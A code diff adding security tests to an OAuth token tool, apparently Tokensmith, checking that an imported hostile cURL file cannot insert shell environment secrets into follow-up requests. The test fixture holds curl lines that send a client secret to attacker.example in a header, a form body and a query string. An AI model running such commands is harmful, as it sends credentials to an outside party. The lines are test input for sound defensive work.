@@ -1,11 +1,17 @@
-import { mkdtemp, rm, writeFile } from 'node:fs/promises';
+import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import Conf from 'conf';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { sendFollowUp } from '../../src/main/core/followup/send-followup.ts';
+import { createHttpClient } from '../../src/main/core/http/http-client.ts';
 import { openMainStore } from '../../src/main/core/store/main-store.ts';
 import type { StoreFile, StoreFileOptions } from '../../src/main/core/store/open-store.ts';
 import { Vault } from '../../src/main/core/vault/vault.ts';
+import { secretRef } from '../../src/main/core/workspace/secret-refs.ts';
+import { secretForms } from '../../src/shared/domain/secrets.ts';
+import { PROFILES } from '../../src/shared/providers/index.ts';
+import { startSimServer } from '../fixtures/simulators/sim-server.ts';
 import { tokensmith } from '../support/cli.ts';
 
 /**
@@ -38,6 +44,105 @@ async function openApp(dataDir: string) {
   await vault.unlock(VAULT_PASSPHRASE);
   return { store, vault };
 }
+
+/** Every file the import wrote, as bytes on disk read as text: the vault in it is sealed. */
+async function filesOnDisk(dataDir: string): Promise<string> {
+  const names = await readdir(dataDir, { recursive: true, withFileTypes: true });
+  const texts = await Promise.all(
+    names.filter((entry) => entry.isFile()).map((entry) => readFile(path.join(entry.parentPath, entry.name), 'utf8')),
+  );
+  return texts.join('\n');
+}
+
+function expectNoSecret(text: string, secret: string): void {
+  for (const form of secretForms(secret)) expect(text).not.toContain(form);
+}
+
+describe.concurrent('a hostile cURL file cannot pull environment secrets into what it sends', () => {
+  it('$TOKENSMITH_… in a follow-up to its own host stays {{env.NAME}}; only a token request secret field reads it', async () => {
+    const secret = 'kaisa-secret-from-the-shell-0001';
+    const { result, dataDir } = await importFile(
+      'hostile.sh',
+      [
+        'curl -X POST https://login.example.com/oauth/token \\',
+        '  -u "client-one:$TOKENSMITH_OAUTH2_CLIENT_SECRET" -d grant_type=client_credentials',
+        'curl https://attacker.example/collect \\',
+        '  -H "X-Debug: $TOKENSMITH_KAISA_CLIENT_SECRET" \\',
+        '  -d "note=$TOKENSMITH_KAISA_CLIENT_SECRET"',
+        'curl "https://attacker.example/q?v=$TOKENSMITH_KAISA_CLIENT_SECRET"',
+        // A token request to the attacker: its client ID (a field kept in clear) must not read the variable.
+        'curl https://attacker.example/token -d grant_type=client_credentials \\',
+        '  -d "client_id=$TOKENSMITH_KAISA_CLIENT_SECRET"',
+      ].join('\n'),
+      { TOKENSMITH_KAISA_CLIENT_SECRET: secret, TOKENSMITH_OAUTH2_CLIENT_SECRET: 'oauth2-secret-for-login-0001' },
+    );
+    expect(result.code, result.stderr).toBe(0);
+    expectNoSecret(result.stderr, secret);
+    expectNoSecret(await filesOnDisk(dataDir), secret);
+
+    const { store, vault } = await openApp(dataDir);
+    expectNoSecret(JSON.stringify({ ...store.data, vault: undefined }), secret);
+    const [login, attacker] = store.data.savedRequests;
+    expect(store.data.savedRequests).toHaveLength(2);
+    expect(login).toMatchObject({ profileId: 'oauth2', values: { tokenUrl: 'https://login.example.com/oauth/token' } });
+    // The token request's own secret field still takes the exported variable, into the vault.
+    expect(await vault.get(secretRef({ kind: 'request', id: login!.id }, 'clientSecret'))).toBe(
+      'oauth2-secret-for-login-0001',
+    );
+    const followUps = login!.followUps.map(({ url, headers, body }) => ({ url, headers, body }));
+    expect(followUps).toEqual([
+      {
+        url: 'https://attacker.example/collect',
+        headers: [
+          ['X-Debug', '{{env.TOKENSMITH_KAISA_CLIENT_SECRET}}'],
+          ['Content-Type', 'application/x-www-form-urlencoded'],
+        ],
+        body: 'note={{env.TOKENSMITH_KAISA_CLIENT_SECRET}}',
+      },
+      {
+        url: 'https://attacker.example/q?v={{env.TOKENSMITH_KAISA_CLIENT_SECRET}}',
+        headers: [],
+        body: '',
+      },
+    ]);
+    expect(attacker).toMatchObject({ profileId: 'oauth2', values: { tokenUrl: 'https://attacker.example/token' } });
+    expect(attacker!.values.clientId).toBeUndefined();
+    expect(result.stderr).toContain(
+      'warning: {{env.TOKENSMITH_KAISA_CLIENT_SECRET}} stands for $TOKENSMITH_KAISA_CLIENT_SECRET: a follow-up never reads it from the shell; set it in an environment.',
+    );
+  });
+});
+
+describe('a follow-up with {{env.NAME}} is sent with a Tokensmith environment, never the shell', () => {
+  it('the variable set in the process environment only → INVALID_INPUT, and nothing reaches the server', async ({
+    onTestFinished,
+  }) => {
+    const server = await startSimServer((_request, response) => void response.end('{}'));
+    onTestFinished(() => server.close());
+    const name = 'TOKENSMITH_FOLLOWUP_TEST_SECRET';
+    process.env.TOKENSMITH_FOLLOWUP_TEST_SECRET = 'process-env-secret-0001';
+    onTestFinished(() => {
+      delete process.env.TOKENSMITH_FOLLOWUP_TEST_SECRET;
+    });
+    const run = await sendFollowUp({
+      request: {
+        id: 'e9b1f6a4-3c1d-4f43-9a7e-2d6c4f0b8a11',
+        name: 'Collect',
+        method: 'GET',
+        url: `${server.origin}/collect`,
+        headers: [['X-Debug', `{{env.${name}}}`]],
+        body: '',
+      },
+      profile: PROFILES.find((profile) => profile.id === 'oauth2')!,
+      token: undefined,
+      variables: { apiBase: server.origin },
+      http: createHttpClient(),
+    });
+    expect(run.error?.code).toBe('INVALID_INPUT');
+    expect(run.error?.message).toBe(`There is no environment variable "${name}".`);
+    expect(server.requests).toEqual([]);
+  });
+});
 
 describe.concurrent('valid imports that used to be refused', () => {
   it('a 200 KB cURL text of 2,000 commands imports (the bash parser took 32 KB)', async () => {
